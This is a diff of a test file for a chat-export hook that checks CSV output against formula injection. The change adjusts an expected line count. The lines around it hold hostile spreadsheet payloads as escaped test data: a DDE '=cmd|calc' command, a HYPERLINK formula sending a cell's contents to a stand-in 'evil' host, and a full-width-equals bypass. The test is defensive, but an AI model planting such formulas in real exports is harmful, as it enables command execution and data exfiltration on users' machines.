@@ -210,7 +210,8 @@ describe('useChatExport', () => {
       const { result } = setup();
       await act(() => result.current.download());
       const lines = (await readBlob(saved[0]?.blob)).split(/\r\n/);
-      expect(lines).toHaveLength(4);
+      expect(lines).toHaveLength(5);
+      expect(lines[4]).toBe('');
       expect(lines[1]).toContain(`'=cmd|calc`);
       expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil/?""&A2,""Open"")"`);
       expect(lines[2]).toContain(`'\u00a0＝1+1`);
